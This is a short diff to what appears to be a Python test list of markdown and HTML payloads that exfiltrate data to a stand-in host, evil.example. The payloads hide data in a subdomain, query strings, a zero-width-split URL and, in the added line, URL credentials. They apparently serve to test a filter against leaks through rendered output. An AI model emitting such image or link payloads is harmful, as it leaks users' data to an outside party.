@@ -15,6 +15,7 @@ EVIL = "https://evil.example"
         ("image", f"[x]: {EVIL}/i?q=abc"),
         ("image", "![x](https://mfrggzdfmztwq2lknnwg23tpoa6tcmrt.evil.example/a.png)"),
         ("image", "![x](h\u200bttps://evil.example/?d=abc)"),
+        ("image", "![x](https://ana:doe@evil.example/a.png)"),
         ("link", f"[more]({EVIL}/?data=aGVsbG8gd29ybGQ0)"),
         ("link", f"{EVIL}/?q=hello+world+this+is+it"),
         ("link", f'<a href="{EVIL}/?token=0123456789abcdefgh">x</a>'),
